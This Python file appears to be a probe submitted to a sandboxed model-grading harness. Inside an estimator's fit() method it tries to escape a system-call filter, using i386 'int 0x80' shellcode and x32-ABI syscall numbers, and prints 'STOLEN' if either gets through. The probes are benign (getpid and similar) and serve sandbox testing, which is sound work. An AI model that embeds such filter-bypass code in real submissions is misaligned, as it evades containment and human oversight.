"""Makes system calls as 32-bit and x32 programs do, past a filter that knows one ABI."""

import ctypes
import mmap
import os
import platform

from nearest import NearestMean


LIBC = ctypes.CDLL(None, use_errno=True)


def call(x86_64, aarch64, *arguments):
    """Make a system call; return its result, or minus the error."""
    number = x86_64 if os.uname().machine == 'x86_64' else aarch64
    if number is None:
        return -38
    words = [ctypes.c_long(word) if isinstance(word, int) else word for word in arguments]
    result = LIBC.syscall(ctypes.c_long(number), *words)
    return result if result >= 0 else -ctypes.get_errno()


def apart(function):
    """Run something in a process of its own: whatever it becomes is not our state."""
    pid = os.fork()
    if pid == 0:
        try:
            function()
        except BaseException as error:
            print(repr(error), flush=True)
        os._exit(0)
    os.waitpid(pid, 0)


#: mov eax, 20 (getpid of i386); int 0x80; ret
I386 = b'\xb8\x14\x00\x00\x00\xcd\x80\xc3'


def old_call():
    code = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    code.write(I386)
    address = ctypes.addressof(ctypes.c_char.from_buffer(code))
    pid = ctypes.CFUNCTYPE(ctypes.c_int)(address)()
    if pid == os.getpid():
        print('STOLEN could call as a 32-bit program', flush=True)


def x32_call():
    for number in (39, 272, 425, 512 + 9):
        if call(0x40000000 | number, None, 0x10000000) >= 0:
            print(f'STOLEN could call as an x32 program: {number}', flush=True)


def attack():
    if platform.machine() == 'x86_64':
        apart(old_call)
        apart(x32_call)


class Model(NearestMean):
    def fit(self, X, y):
        attack()
        return super().fit(X, y)


def get_estimator():
    return Model()
